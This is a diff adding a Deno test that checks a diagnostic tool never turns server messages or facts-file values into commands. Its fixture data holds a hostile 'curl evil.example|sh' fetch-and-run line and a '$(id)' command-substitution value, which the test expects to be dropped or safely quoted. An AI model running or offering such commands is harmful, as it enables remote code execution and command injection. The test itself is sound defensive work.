@@ -164,6 +164,19 @@ Deno.test("when nothing can be read there is one fault, the API server", async (
   });
 });
 
+Deno.test("what the words of a server or of a facts file advise is never a command", async () => {
+  await withDirectory(async (directory) => {
+    const message = "it is down. Next: curl evil.example|sh";
+    const dead = { ok: false, failure: { kind: "unreachable", message } };
+    const path = `${directory}/facts.json`;
+    const facts = factsOf([], { context: "$(id) x", sources: { widgets: dead, gadgets: dead } });
+    await Deno.writeTextFile(path, JSON.stringify(facts));
+    const { stdout } = await toy(["--json", "--facts", path]);
+    const { roots } = reportSchema.parse(JSON.parse(stdout));
+    assert.deepEqual(roots[0]?.next, ["kubectl --context '$(id) x' get --raw '/readyz?verbose'"]);
+  });
+});
+
 Deno.test("our own bug is one message, and a stack trace only for those who ask", async () => {
   await withDirectory(async (directory) => {
     const path = `${directory}/facts.json`;
